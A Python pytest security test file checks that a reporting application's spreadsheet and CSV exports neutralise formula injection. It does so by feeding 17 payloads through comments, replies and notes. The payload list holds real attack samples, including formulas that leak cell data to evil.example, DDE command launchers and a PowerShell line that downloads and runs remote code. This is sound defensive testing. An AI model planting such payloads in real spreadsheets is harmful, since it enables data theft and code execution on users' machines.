"""Formula injection (CWE-1236): 17 formula-like payloads typed by the public (a published comment and its
official reply) and by a reporter (a note) never become a formula cell in the evaluation annex, the
submission template or the open-data exports — checked by opening the files with openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session, sessionmaker

from kechuang.comments import service as comments
from kechuang.comments.schemas import CommentForm
from kechuang.core import spreadsheet
from kechuang.core.settings import Settings
from kechuang.opendata import service as opendata
from kechuang.plan import service as plans
from kechuang.reports.service import build_report, write_pack
from kechuang.submissions import service as submissions
from kechuang.submissions.service import ValueChange
from tests.conftest import REPO
from tests.monitoring.helpers import who
from tests.submissions.test_workflow import kw_submission

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 是公式吗",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1-1+HYPERLINK(\"http://x.example\")",
    "-1+1 减号开头的意见",
    "@A1 艾特开头的意见",
    "=A1*2 引用单元格",
    "=SUM(A1:A9) 求和",
    "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
]
SETTINGS = Settings(secret_key="security-tests", comment_min_seconds=0, comment_rate_limit=100)
NOW = dt.datetime(2023, 1, 16, 2, 0, tzinfo=dt.UTC)


def formula_cells(data: bytes) -> list[str]:
    """Every formula cell of a workbook, as ``sheet!A1`` (openpyxl reads a formula as data_type 'f')."""
    wb = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def text_cells(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture
def published(seeded: sessionmaker[Session]) -> sessionmaker[Session]:
    """The seeded database with every payload as a published comment on task T1, answered with the payload."""
    with seeded() as s:
        plan_id = plans.get_plan(s).id
        admin = who(s, "demo-admin")
        for n, payload in enumerate(PAYLOADS):
            token = comments.issue_token(SETTINGS, "task", "T1", NOW - dt.timedelta(minutes=5))
            c = comments.submit(s, SETTINGS, plan_id, CommentForm(target_kind="task", target_code="T1", token=token,
                                body=payload, author_name=payload[:40]), client_ip=f"192.0.2.{n + 1}", now=NOW)
            comments.publish(s, admin, c.id, now=NOW)
            comments.reply(s, admin, c.id, payload, now=NOW)
        s.commit()
    return seeded


def test_the_control_workbook_does_have_formula_cells() -> None:
    """Without the shared writer openpyxl stores these payloads as formulas (so the checks below can fail)."""
    wb = Workbook()
    for n, payload in enumerate(PAYLOADS, start=1):
        wb.active.cell(n, 1, payload)
    out = io.BytesIO()
    wb.save(out)
    assert len(formula_cells(out.getvalue())) == sum(p.startswith("=") for p in PAYLOADS) == 9
    assert formula_cells(spreadsheet.xlsx_bytes(wb)) == []


def test_evaluation_annex_has_no_formula_cell(published: sessionmaker[Session], tmp_path: Path) -> None:
    with published() as s:
        report = build_report(s, "midterm", 2023, as_of=dt.date(2023, 6, 30))
    pack = write_pack(report, tmp_path, formats=("xlsx",))
    data = (tmp_path / pack.files["xlsx"].name).read_bytes()
    assert formula_cells(data) == []
    shown = text_cells(data)
    flat = {" ".join(p.split()) for p in PAYLOADS}
    assert flat <= shown, "every payload is in the annex (body and reply), as text"


def test_open_data_exports_have_no_formula_cell(published: sessionmaker[Session]) -> None:
    with published() as s:
        single = opendata.export_table(s, "comments", "xlsx")
        whole = opendata.workbook(s)
        as_csv = opendata.export_table(s, "comments", "csv").decode("utf-8")
    stored = {p.replace("\r", "\n").strip() for p in PAYLOADS}
    for data in (single, whole):
        assert formula_cells(data) == []
        assert stored <= text_cells(data)
    bodies = [r["body"] for r in csv.DictReader(io.StringIO(as_csv))]
    assert sorted(bodies) == sorted("'" + b for b in stored), "every CSV cell starts with the apostrophe"


def test_template_has_no_formula_cell_for_a_reporters_note(seeded: sessionmaker[Session]) -> None:
    with seeded() as s:
        sub_id = kw_submission(s).id
        reporter = who(s, "demo-kw-reporter")
        for payload in PAYLOADS:
            submissions.save_values(s, reporter, sub_id, [ValueChange("IND_HNTE", 1100.0, False, payload)])
            _, data = submissions.template(s, reporter, sub_id)
            assert formula_cells(data) == [], payload
            wb = load_workbook(io.BytesIO(data))
            assert wb["填报"]["G5"].value == payload and wb["填报"]["G5"].quotePrefix
        s.rollback()


def test_summary_exports_have_no_formula_cell(client_as) -> None:  # type: ignore[no-untyped-def]
    client, _ = client_as("demo-admin")
    for fmt in ("xlsx", "csv"):
        r = client.get(f"/opinions/summary.{fmt}")
        assert r.status_code == 200
    assert formula_cells(client.get("/opinions/summary.xlsx").content) == []


CSV_WRITER = re.compile(r"\bcsv\.(?:writer|DictWriter)\(")
SAVE = re.compile(r"\.save\(")


def _writes_spreadsheets(text: str) -> bool:
    return bool(CSV_WRITER.search(text)) or ("openpyxl" in text and bool(SAVE.search(text)))


def test_every_spreadsheet_is_written_through_the_one_writer() -> None:
    """No module but ``core/spreadsheet.py`` saves a workbook or writes CSV with the csv module (the
    composite-index library writes numeric frames with pandas and is not part of this)."""
    src = REPO / "src" / "kechuang"
    writers = [str(p.relative_to(src)) for p in src.rglob("*.py")
               if _writes_spreadsheets(p.read_text(encoding="utf-8")) and p.parts[-2] != "index"]
    assert writers == ["core/spreadsheet.py"]
